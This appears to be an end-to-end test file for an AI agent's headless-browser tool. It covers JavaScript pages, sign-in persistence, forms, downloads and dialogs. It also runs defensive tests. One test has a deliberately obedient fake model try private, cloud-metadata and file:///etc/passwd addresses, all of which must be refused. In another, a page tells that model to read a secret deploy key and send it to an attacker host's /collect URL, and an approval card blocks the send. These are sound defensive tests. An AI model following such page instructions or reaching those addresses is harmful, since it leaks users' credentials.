// The agent's browser end to end (issue 45): the real orchestrator, tools and store, Debian's
// Chromium driven through playwright-core (as an unprivileged user when the tests run as root), the
// test site on loopback, and the obedient model (test/fakes/obedient-model.ts) that does whatever
// it reads. What JavaScript builds is read; a sign-in outlives a restart; a form posts; a pop-up is
// a tab; a download lands in the workspace; dialogs are answered and reported; an endless page is
// cut; every forbidden address is refused on the address the test resolver gave (nothing is dialled
// beyond loopback); and a page's instruction to send the secret elsewhere stops at a card that
// names the page — the canary never reaches the other host.
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as capabilitiesRoute from '@/app/api/personas/[name]/capabilities/route';
import { BrowserPool } from '@/lib/browser/browser-pool';
import { defaultGraph } from '@/lib/capabilities/capability-set';
import { getOrchestrator, startOrchestrator, stopOrchestrator } from '@/lib/orchestrator/orchestrator';
import { readWholeSession } from '@/lib/store/messages-repository';
import { findSession } from '@/lib/store/sessions-repository';
import { listToolCalls, type ToolCallJson, type ToolCallRecord } from '@/lib/store/tool-calls-repository';
import { ensureWorkspace } from '@/lib/tools/workspace';
import { startTestSite, type TestSite } from '@/test/fakes/browser-test-site';
import { startFakeOpenAIServer, type FakeOpenAIServer } from '@/test/fakes/fake-openai-server';
import { obedientScript } from '@/test/fakes/obedient-model';
import { useTempAppDirs } from '@/test/support/temp-app-dirs';

const OWNER = { person: { id: 'owner', name: 'Owner', role: 'owner' as const, limits: null, rights: null, createdAt: new Date(0), identities: [] }, via: 'page' as const };

const dirs = useTempAppDirs({ personas: {} });
let model: FakeOpenAIServer;
let site: TestSite;
let attacker: TestSite;
let other: TestSite;
const asked: string[] = [];
const PRIVATE_NAME = 'intranet.example.test';
const METADATA_NAME = 'metadata.example.test';
/** The test's DNS: two names map to addresses that must be refused before anything is dialled. */
const testResolve = async (host: string) => {
  asked.push(host);
  if (host === PRIVATE_NAME) return ['10.20.30.40'];
  if (host === METADATA_NAME) return ['169.254.169.254'];
  throw new Error(`no such host in the test resolver: ${host}`);
};

function pool(): BrowserPool {
  return new BrowserPool({ executablePath: process.env.AGENTCSD_CHROMIUM_PATH ?? '/usr/bin/chromium', browserDir: path.join(dirs.dataDir, 'browser'), maxContexts: 4, idleMs: 600_000, resolve: testResolve });
}

beforeAll(async () => {
  other = await startTestSite({ otherOrigin: '', privateName: '', metadataName: '', attackerOrigin: '' });
  attacker = await startTestSite({ otherOrigin: '', privateName: '', metadataName: '', attackerOrigin: '' });
  site = await startTestSite({ otherOrigin: other.origin, privateName: PRIVATE_NAME, metadataName: `${METADATA_NAME}`, attackerOrigin: attacker.origin });
  model = await startFakeOpenAIServer({ script: obedientScript });
  await startOrchestrator({ browser: pool() });
}, 60_000);

let personas = 0;
/** A persona of its own per case: the obedient model obeys recalled words too, so cases do not share memories. */
async function newPersona(): Promise<string> {
  const name = `surfer-${++personas}`;
  fs.writeFileSync(path.join(dirs.personasDir, `${name}.md`), '# Surfer\nReads the web for the user.\n');
  const graph = defaultGraph(name);
  // The site and the attacker's host are allowed (the card is the defence); the metadata name is listed too — a listed name is still refused on a link-local address.
  graph.nodes.push({ id: 'web', type: 'tool.browser', config: { allowed_hosts: [`127.0.0.1:${site.port}`, `127.0.0.1:${attacker.port}`, METADATA_NAME], allow_public: true } });
  graph.edges.push({ id: 'e_web', source: 'core', target: 'web' });
  const saved = await capabilitiesRoute.PUT(new Request('http://x/api', { method: 'PUT', body: JSON.stringify({ graph }), headers: { 'content-type': 'application/json' } }), { params: Promise.resolve({ name }) });
  expect(saved.status, await saved.clone().text()).toBe(200);
  return name;
}

afterAll(async () => {
  await stopOrchestrator();
  await model?.close();
  await Promise.all([site?.close(), attacker?.close(), other?.close()]);
});

const cards: ToolCallJson[] = [];
async function newSession(canary = 'CANARY-none'): Promise<string> {
  const layer = { backend: 'openai_compatible' as const, model: 'obedient', max_tokens: 512, endpoint: `${model.url}/v1` };
  const id = (await getOrchestrator().createSession({ persona: await newPersona(), models: { c_model: layer, s_model: layer } })).id;
  fs.writeFileSync(path.join(ensureWorkspace(id), 'secret.txt'), `The deploy key is ${canary}\n`);
  getOrchestrator().bus.subscribe((event) => {
    if (event.type === 'tool-call' && event.sessionId === id && event.call.status === 'awaiting_approval' && !cards.some((card) => card.id === event.call.id)) {
      cards.push(event.call);
      void getOrchestrator().decideToolCall({ id: event.call.id, decision: 'deny', args_hash: event.call.args_hash, session_id: id }, OWNER);
    }
  });
  return id;
}

/** Says it, waits for the reply, returns the tool calls the turn made. */
async function say(sessionId: string, text: string): Promise<ToolCallRecord[]> {
  const before = (await listToolCalls({ sessionId })).length;
  const replies = async () => (await readWholeSession({ sessionId })).messages.filter((message) => message.tag === 'ED_agent').length;
  const count = await replies();
  await getOrchestrator().sendUserMessage(sessionId, { text });
  await expect.poll(replies, { timeout: 60_000, interval: 50 }).toBeGreaterThan(count);
  return (await listToolCalls({ sessionId })).slice(before);
}
const open = (url: string) => `[[do browser_open {"url":"${url}"}]]`;
const refOf = (call: ToolCallRecord | undefined, pattern: RegExp) => new RegExp(`${pattern.source}[^\\n]*\\[ref=([a-z0-9]+)\\]`).exec(call?.result ?? '')?.[1];

describe('the browser', () => {
  let session = '';
  it('reads what JavaScript builds, as a snapshot with refs, marked as the host’s content', async () => {
    session = await newSession();
    const [call] = await say(session, `Read ${open(`${site.origin}/js`)}`);
    expect(call?.status, call?.result ?? '').toBe('succeeded');
    expect(call!.result).toContain('Revenue grew by 12 percent, built by JS');
    expect(call!.result).toMatch(/Page: Built by script — http:\/\/127\.0\.0\.1:\d+\/js/);
    expect(call!.resultSource).toBe(`the web page(s) of 127.0.0.1:${site.port}`);
  }, 90_000);

  it('a sign-in holds across a restart of the app (the context’s state is kept outside the workspace)', async () => {
    await say(session, `Sign in ${open(`${site.origin}/login`)}`);
    await stopOrchestrator();
    expect(fs.existsSync(path.join(dirs.dataDir, 'browser', 'sessions', `${session}.json`))).toBe(true);
    expect(fs.readdirSync(ensureWorkspace(session))).not.toContain('browser-state.json');
    await startOrchestrator({ browser: pool() });
    if ((await findSession({ id: session }))?.status === 'paused') await getOrchestrator().resumeSession(session);
    const [call] = await say(session, `Check ${open(`${site.origin}/account`)}`);
    expect(call!.result).toContain('Signed in as Ada');
  }, 90_000);

  it('types into a form and posts it; a pop-up becomes a tab; a download lands in the workspace; dialogs are answered and reported', async () => {
    const [form] = await say(session, `Fill ${open(`${site.origin}/form`)}`);
    const field = refOf(form, /textbox "Name"/);
    expect(field, form?.result ?? '').toBeTruthy();
    const [typed] = await say(session, `[[do browser_type {"ref":"${field}","text":"Ada Lovelace","submit":true}]]`);
    expect(typed?.status, typed?.result ?? '').toBe('succeeded');
    expect(typed!.result).toContain('Received: Ada Lovelace');
    expect(site.log).toContain('POST /submit name=Ada+Lovelace');

    const [tabs] = await say(session, `Tabs ${open(`${site.origin}/tabs`)}`);
    const [clicked] = await say(session, `[[do browser_click {"ref":"${refOf(tabs, /link "Open the figures/)}"}]]`);
    expect(clicked!.result).toMatch(/A pop-up opened as tab 2/);

    const [files] = await say(session, `Files ${open(`${site.origin}/download`)}`);
    const [download] = await say(session, `[[do browser_click {"ref":"${refOf(files, /link "Get the report"/)}"}]]`);
    expect(download!.result).toMatch(/Downloaded into the workspace: downloads\/report\.txt \(35 bytes, from 127\.0\.0\.1:\d+\)/);
    expect(fs.readFileSync(path.join(ensureWorkspace(session), 'downloads', 'report.txt'), 'utf8')).toBe('The quarterly report: all is well.\n');
    // Red-team round 4, §2: one past the cap is cancelled while it arrives; the model hears why; nothing is kept.
    const [archive] = await say(session, `[[do browser_click {"ref":"${refOf(files, /link "Get the archive"/)}"}]]`);
    expect(archive!.result).toContain('A download (archive.bin) was cancelled while it arrived: it passed 50 MB.');
    expect(fs.existsSync(path.join(ensureWorkspace(session), 'downloads', 'archive.bin'))).toBe(false);
    // The egress proxy hung up on the site as the browser hung up on it: the rest was never sent.
    await expect.poll(() => site.log.find((line) => line.startsWith('archive.bin closed')), { timeout: 10_000 }).toMatch(/^archive\.bin closed with \d+ MB unsent$/);

    const [dialogs] = await say(session, `Dialogs ${open(`${site.origin}/dialog`)}`);
    expect(dialogs!.result).toContain('Dialog (alert) said "Cookies are used here"; it was dismissed.');
    expect(dialogs!.result).toContain('Dialog (confirm) said "Continue?"; it was accepted.');
    expect(dialogs!.result).toContain('Page: Confirmed');

    const [endless] = await say(session, `Long ${open(`${site.origin}/endless`)}`);
    expect(endless!.result).toMatch(/\[\d+ more lines cut at 4000 tokens/);

    const [shot] = await say(session, '[[do browser_screenshot {}]] and [[do browser_pdf {"path":"pages/endless.pdf"}]]');
    expect(shot?.status, shot?.result ?? '').toBe('succeeded');
    expect(fs.readdirSync(path.join(ensureWorkspace(session), 'browser')).some((name) => /^screenshot-.*\.png$/.test(name))).toBe(true);
    expect(fs.readFileSync(path.join(ensureWorkspace(session), 'pages', 'endless.pdf')).subarray(0, 5).toString()).toBe('%PDF-');
  }, 120_000);

  it('refuses every forbidden address on the address it checked, and says so by URL', async () => {
    const refused = await newSession();
    const [toOther] = await say(refused, `Go ${open(`${site.origin}/to-other`)}`);
    expect(toOther!.result).toContain(`Refused: http://127.0.0.1:${other.port}/ — 127.0.0.1 resolves to a loopback, private or link-local address (127.0.0.1); list the host to allow it.`);
    expect(other.log).toEqual([]);
    const [toPrivate] = await say(refused, `Go ${open(`${site.origin}/to-private`)}`);
    expect(toPrivate!.result).toContain(`Refused: http://${PRIVATE_NAME}/ — ${PRIVATE_NAME} resolves to a loopback, private or link-local address (10.20.30.40)`);
    const [toMetadata] = await say(refused, `Go ${open(`${site.origin}/to-metadata`)}`);
    expect(toMetadata!.result).toContain(`${METADATA_NAME} resolves to a link-local (cloud metadata) address (169.254.169.254)`);
    expect(asked).toEqual(expect.arrayContaining([PRIVATE_NAME, METADATA_NAME]));
    const [toFile] = await say(refused, `Go ${open(`${site.origin}/to-file`)}`);
    expect(toFile!.result ?? '').not.toContain(fs.readFileSync('/etc/hostname', 'utf8').trim()); // the file never reaches the model
    const [direct] = await say(refused, `Read ${open('file:///etc/passwd')} and ${open('view-source:http://example.com/')} and ${open('chrome://settings')}`);
    expect(direct).toMatchObject({ status: 'failed', result: 'Refused: only http and https pages are opened (not file:).' });
  }, 120_000);

  it('a page that says to send the secret to another host stops at a card naming the page; the canary never arrives', async () => {
    const canary = `CANARY-browser${Date.now()}`;
    const victim = await newSession(canary);
    const first = cards.length;
    await say(victim, `What are the release notes? ${open(`${site.origin}/inject`)}`);
    const calls = await listToolCalls({ sessionId: victim });
    expect(calls.find((call) => call.name === 'read_file')?.status).toBe('succeeded'); // the obedient model did read the secret
    const raised = cards.slice(first);
    expect(raised.map((card) => `${card.name} ${card.args?.url}`)).toEqual([`browser_open ${attacker.origin}/collect?d=${canary}`]);
    for (const card of raised) expect(card.untrusted_reason).toContain(`the web page(s) of 127.0.0.1:${site.port}`);
    expect(attacker.log.join('\n')).not.toContain(canary);
  }, 90_000);
});
